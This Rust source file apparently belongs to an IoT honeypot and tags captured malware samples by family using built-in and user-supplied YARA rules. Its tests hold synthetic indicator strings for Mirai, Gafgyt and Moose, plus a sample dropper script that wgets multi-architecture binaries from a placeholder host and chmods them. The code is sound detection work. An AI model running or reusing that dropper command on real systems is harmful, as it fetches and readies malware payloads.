//! Family tagging with YARA rules, evaluated by boreal (pure Rust).
//!
//! The built-in rules (`rules/*.yar`, compiled in) cover the families the
//! IoTPOT papers met: Mirai, Gafgyt/Bashlite, Linux/Moose, Tsunami/Kaiten,
//! Hajime, Linux.Wifatch, and multi-architecture dropper scripts. Operators add their
//! own with `[downloader] rules = "DIR"` (every `*.yar` / `*.yara` in it).

use std::path::Path;
use std::time::Duration;

const BUILTIN: &[(&str, &str)] = &[("iot.yar", include_str!("../rules/iot.yar"))];

/// Longest a scan of one sample may take.
const SCAN_TIMEOUT: Duration = Duration::from_secs(10);

pub struct Rules {
    scanner: boreal::Scanner,
}

impl Rules {
    /// The built-in rules plus every rule file in `dir`.
    pub fn load(dir: Option<&Path>) -> anyhow::Result<Rules> {
        let mut compiler = boreal::Compiler::new();
        for (name, text) in BUILTIN {
            compiler
                .add_rules_str(text)
                .map_err(|e| anyhow::anyhow!("built-in rules {name}: {e:?}"))?;
        }
        if let Some(dir) = dir {
            let mut files: Vec<_> = std::fs::read_dir(dir)
                .map_err(|e| anyhow::anyhow!("[downloader] rules = {}: {e}", dir.display()))?
                .filter_map(|e| e.ok().map(|e| e.path()))
                .filter(|p| p.extension().is_some_and(|x| x == "yar" || x == "yara"))
                .collect();
            files.sort();
            for f in files {
                let text = std::fs::read_to_string(&f)
                    .map_err(|e| anyhow::anyhow!("{}: {e}", f.display()))?;
                let ns = f
                    .file_stem()
                    .and_then(|s| s.to_str())
                    .unwrap_or("user")
                    .to_string();
                compiler
                    .add_rules_str_in_namespace(&text, &ns)
                    .map_err(|e| anyhow::anyhow!("{}: {e:?}", f.display()))?;
            }
        }
        let mut scanner = compiler.finalize();
        scanner.set_scan_params(
            boreal::scanner::ScanParams::default().timeout_duration(Some(SCAN_TIMEOUT)),
        );
        Ok(Rules { scanner })
    }

    /// The names of the rules that match, sorted (a timed-out scan keeps
    /// what matched so far).
    pub fn tags(&self, bytes: &[u8]) -> Vec<String> {
        let result = match self.scanner.scan_mem(bytes) {
            Ok(r) => r,
            Err((_, partial)) => partial,
        };
        let mut tags: Vec<String> = result
            .rules
            .iter()
            .filter(|r| r.matched)
            .map(|r| r.name.to_string())
            .collect();
        tags.sort();
        tags.dedup();
        tags
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_rules_tag_families() {
        let rules = Rules::load(None).unwrap();
        let mut mirai = b"\x7fELF\x01\x01\x01\0".to_vec();
        mirai.extend_from_slice(b"\0/dev/watchdog\0TSource Engine Query\0/proc/net/tcp\0");
        assert_eq!(rules.tags(&mirai), ["mirai"]);
        let mut gafgyt = b"\x7fELF\x02\x02\x01\0".to_vec();
        gafgyt.extend_from_slice(b"\0PONG!\0GETLOCALIP\0KILLATTK\0LOLNOGTFO\0");
        assert_eq!(rules.tags(&gafgyt), ["gafgyt"]);
        let script = b"#!/bin/sh\ncd /tmp; wget http://x/a.arm; wget http://x/a.mips; wget http://x/a.x86; chmod 777 *\n";
        assert_eq!(rules.tags(script), ["multiarch_dropper_script"]);
        assert!(rules.tags(b"\x7fELF nothing here").is_empty());
        let moose = b"\x7fELF\x01\x02\x01\0..elan3..password is wrong..uthentication failed..chmod: not found..";
        assert_eq!(rules.tags(moose), ["moose"]);
    }

    #[test]
    fn user_rules_are_added() {
        let dir = std::env::temp_dir().join(format!("iotpot-yara-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("mine.yar"),
            "rule my_family { strings: $a = \"xyzzy-marker\" condition: $a }",
        )
        .unwrap();
        let rules = Rules::load(Some(&dir)).unwrap();
        assert_eq!(rules.tags(b"..xyzzy-marker.."), ["my_family"]);
        std::fs::write(dir.join("broken.yar"), "rule {").unwrap();
        assert!(Rules::load(Some(&dir)).is_err());
        std::fs::remove_dir_all(&dir).ok();
    }
}
